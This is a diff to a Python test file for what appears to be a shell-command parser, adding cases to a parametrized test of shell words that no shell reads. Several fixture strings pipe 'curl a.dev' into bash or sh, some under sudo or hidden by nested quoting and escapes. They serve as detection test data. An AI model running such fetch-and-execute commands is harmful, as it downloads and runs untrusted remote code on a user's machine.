@@ -276,6 +276,8 @@ def test_words_that_no_shell_reads(given_words: tuple[str, ...], expected: list[
     [
         ('echo "ä\t" && curl "a.dev" |\n sudo "bash" -s', "bash"),
         ("bash -c 'echo \"\\n\"; curl a.dev | s\"\"h'", 's\\"\\"h'),
+        ("bash -c \"bash -c 'curl a.dev | \\\"s\\\"h'\"", 's\\\\\\"h'),
+        ("bash -c $'curl a.dev | s\\x27h\\x27'", "s\\\\x27h"),
         ('f=$(jq -r .tool_input.file_path)\nblack \U0001f600$f "x"', '$f'),
     ],
 )  # fmt: skip
